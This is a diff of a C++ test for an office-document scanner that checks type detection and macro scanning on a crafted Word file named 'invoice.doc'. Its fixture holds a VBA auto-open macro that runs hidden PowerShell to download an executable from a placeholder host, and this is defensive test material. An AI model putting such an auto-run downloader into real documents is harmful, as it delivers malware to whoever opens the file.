@@ -266,16 +266,8 @@ TEST(MsgTyping, DocumentEmbeddingAMessageStaysADocument) {
                 "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n"
                 "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"powershell -w hidden -c iwr http://example.invalid/a.exe\", 0\r\nEnd Sub\r\n",
                 {}, false}};
-  CfbSpec s;
-  s.streams = build_vba_streams(v);
-  std::vector<std::uint8_t> fib(5000, 0);
-  fib[0] = 0xEC;
-  fib[1] = 0xA5;
-  s.streams.push_back({"WordDocument", fib});
-  s.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
-  s.streams.push_back({"ObjectPool/_1712345678/__properties_version1.0", props(32)});
-  s.streams.push_back({"ObjectPool/_1712345678/__substg1.0_0037001F", utf16("Invoice")});
-  const auto b = build_cfb(s);
+  const auto b = build_word_doc(v, {{"ObjectPool/_1712345678/__properties_version1.0", props(32)},
+                                     {"ObjectPool/_1712345678/__substg1.0_0037001F", utf16("Invoice")}});
   EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
   if (auto sc = office_scanner()) {  // the macro reaches the document model and its rules
     const auto r = sc->scan_bytes(ByteView(b.data(), b.size()), "invoice.doc");
